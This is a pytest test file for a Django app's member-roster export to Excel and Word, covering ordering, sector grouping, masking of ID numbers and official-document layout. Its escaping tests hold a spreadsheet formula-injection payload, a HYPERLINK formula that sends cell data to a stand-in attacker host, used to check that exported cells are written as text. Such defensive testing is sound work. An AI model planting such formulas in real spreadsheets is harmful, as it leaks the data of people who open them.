"""The roster exports as files: what an office opens in Excel and prints from Word."""

import io

import openpyxl
import pytest
from django.utils.translation import gettext
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Length, Pt

from lvzhi.core import docx_official, masking, xlsx
from lvzhi.core.testing import assert_same_query_count, capture_queries
from lvzhi.factories import MemberFactory, MemberTermFactory, OrgUnitFactory, TermFactory
from lvzhi.members import roster_export
from lvzhi.members.models import Member, MemberTerm
from lvzhi.organization.models import OrgUnit

FULL_WIDTH_SPACE = "\u3000"


def place(member, term, *, sector=None, specials=(), standing=False, status="serving"):
    row = MemberTermFactory(member=member, term=term, sector=sector, is_standing=standing, status=status)
    row.special_committees.set(specials)
    return member


def make_roster(term):
    """Two sectors (经济界 listed before 教育界 by sort order) and a member without a sector:

    经济界: 李四, 丁一 · 教育界: 张三, 王五, 王小明 · no sector: 刘一
    """
    committee = term.committee
    economy = OrgUnitFactory(committee=committee, kind=OrgUnit.Kind.SECTOR, name="经济界", sort_order=1)
    education = OrgUnitFactory(committee=committee, kind=OrgUnit.Kind.SECTOR, name="教育界", sort_order=2)
    special = OrgUnitFactory(
        committee=committee, kind=OrgUnit.Kind.SPECIAL_COMMITTEE, name="社会和法制委员会"
    )
    members = {}
    for name, sector in [
        ("张三", education),
        ("李四", economy),
        ("王五", education),
        ("刘一", None),
        ("丁一", economy),
        ("王小明", education),
    ]:
        members[name] = place(
            MemberFactory(committee=committee, name=name), term, sector=sector, specials=[special]
        )
    return {"economy": economy, "education": education, "members": members}


@pytest.fixture
def roster(term):
    return make_roster(term)


def everyone(committee):
    return Member.objects.filter(committee=committee)


def read_rows(workbook):
    """Save and read back, as Excel would get it."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer).active


def values(sheet, min_row=1):
    return [list(row) for row in sheet.iter_rows(min_row=min_row, values_only=True)]


# --- xlsx helpers --------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(prefix):
    dangerous = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"点击")'
    workbook = openpyxl.Workbook()
    workbook.active.append([xlsx.safe_cell(dangerous)])
    sheet = read_rows(workbook)
    cell = sheet["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + dangerous


def test_without_the_escape_openpyxl_would_write_a_formula():
    # The control for the test above: the danger is real.
    workbook = openpyxl.Workbook()
    workbook.active.append(['=HYPERLINK("http://evil.example/","点击")'])
    assert read_rows(workbook)["A1"].data_type == "f"


@pytest.mark.parametrize("value", ["张三", "139****1234", "1975.03", 42, None, "a=b"])
def test_ordinary_values_are_left_alone(value):
    assert xlsx.safe_cell(value) == value


def test_control_characters_that_xlsx_cannot_hold_are_dropped():
    assert xlsx.safe_cell("县\x00一中\x0b") == "县一中"


def test_chinese_characters_count_double_in_column_widths():
    assert xlsx.display_width("张三") == 4
    assert xlsx.display_width("ab张") == 4
    assert xlsx.display_width("ＡＢ") == 4  # full-width Latin letters
    assert xlsx.display_width(None) == 0


def test_the_header_is_bold_and_frozen_below_the_title(roster, committee):
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee), columns=["name", "employer_post"], title="委员名单"
    )
    sheet = read_rows(workbook)
    assert sheet["A1"].value == "委员名单"
    assert "A1:B1" in {str(r) for r in sheet.merged_cells.ranges}
    assert [sheet["A2"].value, sheet["B2"].value] == [gettext("Name"), gettext("Employer and post")]
    assert sheet["A2"].font.bold
    assert sheet.freeze_panes == "A3"
    # 县第一中学教师: 7 CJK characters are 14 units wide, the name column only a few.
    assert sheet.column_dimensions["B"].width >= 14
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width


def test_the_content_disposition_carries_the_chinese_name_and_an_ascii_fallback():
    header = xlsx.content_disposition("政协委员名单-20260506.xlsx")
    assert header == (
        'attachment; filename="20260506.xlsx"; '
        "filename*=UTF-8''%E6%94%BF%E5%8D%8F%E5%A7%94%E5%91%98%E5%90%8D%E5%8D%95-20260506.xlsx"
    )
    assert xlsx.content_disposition("名单.xlsx").startswith('attachment; filename="download.xlsx"')


# --- roster workbook ------------------------------------------------------------------------------


def test_it_writes_the_chosen_columns_only(roster, committee):
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee), columns=["name", "sector", "special_committees"], title=""
    )
    rows = values(read_rows(workbook))
    assert rows[0] == [gettext("Name"), gettext("Sector"), gettext("Special committees")]
    assert ["张三", "教育界", "社会和法制委员会"] in rows
    assert ["刘一", None, "社会和法制委员会"] in rows
    assert all(len(row) == 3 for row in rows)


def test_it_refuses_an_unknown_column(roster, committee):
    with pytest.raises(ValueError):
        roster_export.export_roster_xlsx(members_qs=everyone(committee), columns=["name", "salary"], title="")


def test_every_documented_column_has_a_value(roster, committee, term):
    member = roster["members"]["张三"]
    member.ethnicity, member.native_place, member.email = "汉族", "浙江杭州", "zs@example.cn"
    member.education, member.address, member.notes = Member.Education.MASTER, "城关镇人民路1号", "备注一"
    member.save()
    member.terms.filter(term=term).update(is_standing=True)
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee).filter(pk=member.pk), columns=list(roster_export.COLUMNS), title=""
    )
    header, row = values(read_rows(workbook))
    cells = dict(zip(header, row, strict=True))
    assert cells[gettext("Year and month of birth")] == "1975.03"
    assert cells[gettext("Ethnicity")] == "汉族"
    assert cells[gettext("Education")] == Member.Education.MASTER.label
    assert cells[gettext("Party")] == Member.Party.NON_PARTY.label
    assert cells[gettext("Mailing address")] == "城关镇人民路1号"
    assert cells[gettext("Status")] == MemberTerm.Status.SERVING.label
    assert cells[gettext("Standing committee member")]
    assert len(header) == len(roster_export.COLUMNS)


def test_a_member_outside_the_current_term_is_marked(committee, term):
    old = TermFactory(committee=committee, number=8, name="第八届", is_current=False)
    place(MemberFactory(committee=committee, name="赵六"), old)
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee), columns=["name", "status"], title=""
    )
    assert values(read_rows(workbook), min_row=2) == [["赵六", gettext("Not in current term")]]


def names_in(sheet, min_row=2):
    return [row[0] for row in sheet.iter_rows(min_row=min_row, values_only=True)]


def test_the_default_order_is_by_surname_strokes(roster, committee):
    workbook = roster_export.export_roster_xlsx(members_qs=everyone(committee), columns=["name"], title="")
    assert names_in(read_rows(workbook)) == ["丁一", "王小明", "王五", "刘一", "李四", "张三"]


def test_it_orders_by_pinyin(roster, committee):
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee), columns=["name"], order="pinyin", title=""
    )
    assert names_in(read_rows(workbook)) == ["丁一", "李四", "刘一", "王五", "王小明", "张三"]


def test_it_orders_by_sector_then_strokes_with_members_without_a_sector_last(roster, committee):
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee), columns=["name", "sector"], order="sector", title=""
    )
    assert values(read_rows(workbook), min_row=2) == [
        ["丁一", "经济界"],
        ["李四", "经济界"],
        ["王小明", "教育界"],
        ["王五", "教育界"],
        ["张三", "教育界"],
        ["刘一", None],
    ]


def test_grouping_by_sector_adds_a_heading_row_before_each_group(roster, committee):
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee),
        columns=["name", "gender"],
        order="pinyin",
        group_by_sector=True,
        title="",
    )
    sheet = read_rows(workbook)
    assert names_in(sheet) == [
        roster_export.group_heading("经济界", 2),
        "丁一",
        "李四",
        roster_export.group_heading("教育界", 3),
        "王五",
        "王小明",
        "张三",
        roster_export.group_heading(None, 1),
        "刘一",
    ]
    assert gettext("Without a sector") in roster_export.group_heading(None, 1)
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A2:B2", "A5:B5", "A9:B9"}
    assert sheet["A2"].font.bold


def test_id_and_phone_numbers_are_masked_by_default(roster, committee):
    member = roster["members"]["张三"]
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee).filter(pk=member.pk), columns=["id_number", "phone"], title=""
    )
    assert values(read_rows(workbook), min_row=2) == [
        [masking.mask_id_number(member.id_number), masking.mask_phone(member.phone)]
    ]
    assert member.id_number not in str(values(read_rows(workbook)))


def test_unmask_writes_the_full_numbers_as_text(roster, committee):
    member = roster["members"]["张三"]
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee).filter(pk=member.pk),
        columns=["id_number", "phone"],
        unmask=True,
        title="",
    )
    sheet = read_rows(workbook)
    assert values(sheet, min_row=2) == [[member.id_number, member.phone]]
    # Text, not a number: Excel would round an 18-digit number and drop a leading zero.
    assert sheet["A2"].data_type == "s"


def test_a_member_file_with_a_formula_cannot_inject_it(roster, committee):
    member = roster["members"]["张三"]
    member.employer_post = "=1+2"
    member.save()
    workbook = roster_export.export_roster_xlsx(
        members_qs=everyone(committee).filter(pk=member.pk), columns=["employer_post"], title=""
    )
    sheet = read_rows(workbook)
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'=1+2", "s")


def grow_to(term, count):
    sector = OrgUnitFactory(committee=term.committee, kind=OrgUnit.Kind.SECTOR)
    special = OrgUnitFactory(committee=term.committee, kind=OrgUnit.Kind.SPECIAL_COMMITTEE)
    while Member.objects.filter(committee=term.committee).count() < count:
        place(MemberFactory(committee=term.committee), term, sector=sector, specials=[special])


def test_the_number_of_queries_does_not_grow_with_the_members(committee, term):
    runs = []
    for size in (5, 50):
        grow_to(term, size)
        with capture_queries() as xlsx_queries:
            roster_export.export_roster_xlsx(
                members_qs=everyone(committee),
                columns=list(roster_export.COLUMNS),
                group_by_sector=True,
                title="",
            )
        with capture_queries() as docx_queries:
            roster_export.export_roster_docx(committee=committee, members_qs=everyone(committee), title="")
        runs.append((xlsx_queries, docx_queries))
    (small_xlsx, small_docx), (large_xlsx, large_docx) = runs
    assert_same_query_count(small_xlsx, large_xlsx)
    assert_same_query_count(small_docx, large_docx)
    assert len(small_xlsx) <= 3


# --- roster document --------------------------------------------------------------------------------


@pytest.fixture
def document(roster, committee):
    doc = roster_export.export_roster_docx(
        committee=committee, members_qs=everyone(committee), title="政协本县委员会委员名单"
    )
    buffer = io.BytesIO()
    doc.save(buffer)
    buffer.seek(0)
    return Document(buffer)


def east_asian_font(run_or_style):
    rfonts = run_or_style.element.rPr.find(qn("w:rFonts"))
    return rfonts.get(qn("w:eastAsia"))


def paragraphs_in(document, font_name):
    return [p for p in document.paragraphs if p.runs and east_asian_font(p.runs[0]) == font_name]


def test_the_page_follows_gb_t_9704(document):
    section = document.sections[0]
    measured = [
        section.page_width,
        section.page_height,
        section.top_margin,
        section.bottom_margin,
        section.left_margin,
        section.right_margin,
    ]
    assert [round(length.mm, 1) for length in measured] == [210, 297, 37, 35, 28, 26]
    type_area = (
        Length(section.page_width - section.left_margin - section.right_margin),
        Length(section.page_height - section.top_margin - section.bottom_margin),
    )
    assert [round(length.mm) for length in type_area] == [156, 225]


def test_the_body_is_fangsong_3_on_22_lines_a_page(document):
    normal = document.styles["Normal"]
    assert normal.font.size == Pt(16)
    assert east_asian_font(normal) == "仿宋_GB2312"
    assert normal.paragraph_format.line_spacing == Pt(28.95)
    grid = document.sections[0]._sectPr.find(qn("w:docGrid"))
    assert grid.get(qn("w:linePitch")) == "579"


def test_the_title_is_xiaobiaosong_2_centred(document):
    title = document.paragraphs[0]
    assert title.text == "政协本县委员会委员名单"
    assert title.runs[0].font.size == Pt(22)
    assert east_asian_font(title.runs[0]) == "方正小标宋简体"
    assert title.alignment == docx_official.WD_ALIGN_PARAGRAPH.CENTER
    assert document.core_properties.title == "政协本县委员会委员名单"
    assert document.core_properties.author == "政协本县委员会"


def test_sectors_are_heiti_headings_in_sector_order(document):
    headings = paragraphs_in(document, "黑体")
    assert [p.text for p in headings] == [
        roster_export.group_heading("经济界", 2),
        roster_export.group_heading("教育界", 3),
        roster_export.group_heading(None, 1),
    ]
    assert all(p.runs[0].font.size == Pt(16) for p in headings)


def listed_names(document):
    """Names per heading, as printed (with their padding)."""
    groups, current = {}, None
    for paragraph in document.paragraphs:
        if paragraph.runs and east_asian_font(paragraph.runs[0]) == "黑体":
            current = paragraph.text
            groups[current] = []
        elif current is not None and paragraph.text:
            groups[current].extend(paragraph.text.split(docx_official.NAME_SEPARATOR))
    return list(groups.values())


def test_names_are_in_stroke_order_with_two_character_names_padded(document):
    assert listed_names(document) == [
        ["丁　一", "李　四"],
        ["王小明", "王　五", "张　三"],
        ["刘　一"],
    ]
    names = [p for p in paragraphs_in(document, "仿宋_GB2312") if "张　三" in p.text]
    assert names and names[0].runs[0].font.size == Pt(16)


def test_names_are_laid_out_five_to_a_line(committee, term):
    for name in ["甲一", "乙二", "丙三", "丁四", "戊五", "己六", "庚七"]:
        place(MemberFactory(committee=committee, name=name), term)
    doc = roster_export.export_roster_docx(committee=committee, members_qs=everyone(committee), title="名单")
    lines = [p.text for p in paragraphs_in(doc, "仿宋_GB2312") if FULL_WIDTH_SPACE in p.text]
    assert [len(line.split(docx_official.NAME_SEPARATOR)) for line in lines] == [5, 2]
    # Without any sector there is nothing to group by, and no heading.
    assert paragraphs_in(doc, "黑体") == []


def test_pad_name():
    assert docx_official.pad_name("张三") == "张　三"
    assert docx_official.pad_name("王小明") == "王小明"
    assert docx_official.pad_name("欧阳小明") == "欧阳小明"
    assert docx_official.pad_name("Li") == "Li"


def test_a_long_name_starts_a_new_line_rather_than_overflowing():
    lines = docx_official.name_lines(["张三", "李四", "王五", "赵六", "阿不都热合曼·买买提", "丁一"])
    assert all(len(line) <= docx_official.CHARS_PER_LINE - 2 for line in lines)
    assert lines == ["张　三　　李　四　　王　五　　赵　六", "阿不都热合曼·买买提　　丁　一"]


def test_the_footer_has_a_page_number_field_between_dashes(document):
    section = document.sections[0]
    assert document.settings.odd_and_even_pages_header_footer
    for footer, alignment in [
        (section.footer, docx_official.WD_ALIGN_PARAGRAPH.RIGHT),
        (section.even_page_footer, docx_official.WD_ALIGN_PARAGRAPH.LEFT),
    ]:
        paragraph = footer.paragraphs[0]
        instructions = [el.text.strip() for el in paragraph._p.iter(qn("w:instrText"))]
        assert instructions == ["PAGE"]
        assert paragraph.text.startswith("\u2014 ") and paragraph.text.endswith(" \u2014")
        assert paragraph.alignment == alignment
        assert all(run.font.size == Pt(14) for run in paragraph.runs)
        assert east_asian_font(paragraph.runs[0]) == "宋体"


def test_the_document_lists_only_the_committees_members(roster, committee, other_committee):
    outsider = MemberFactory(committee=other_committee, name="邻县委员")
    doc = roster_export.export_roster_docx(committee=committee, members_qs=Member.objects.all(), title="名单")
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "张　三" in text
    assert outsider.name not in text
